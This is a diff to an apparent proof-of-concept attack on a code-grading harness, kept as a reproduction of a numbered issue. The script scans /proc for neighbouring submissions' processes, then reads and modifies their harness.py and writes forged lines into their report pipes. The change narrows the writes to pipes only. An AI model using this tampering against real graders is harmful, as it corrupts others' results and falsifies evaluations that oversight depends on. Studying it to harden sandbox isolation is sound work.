@@ -1,8 +1,11 @@
 # Issue 17's attack: walks /proc at import for the processes of submissions graded beside this
 # one, reads each one's folder from /proc/PID/cwd, reads and changes its harness.py, and writes
-# a forged line into every file it holds open (its report channel among them). It looks for a
+# a forged line into every pipe it holds open (its report channel among them). Pipes only: a
+# file a neighbour holds open may be the interpreter's own (a .pth file read at start-up), and
+# where the spy can reach it, a forged line there would break Python on the grading machine. It looks for a
 # few seconds, so that it overlaps the grading of its neighbours, and prints what it reached.
 import os as _os
+import stat as _stat
 import time as _time
 
 
@@ -37,6 +40,8 @@ def _spy():
                 held = []
             for fd in held:
                 try:
+                    if not _stat.S_ISFIFO(_os.stat(f"/proc/{entry}/fd/{fd}").st_mode):
+                        continue
                     out = _os.open(f"/proc/{entry}/fd/{fd}", _os.O_WRONLY | _os.O_NONBLOCK)
                     _os.write(out, b"forged by a classmate\n")
                     _os.close(out)
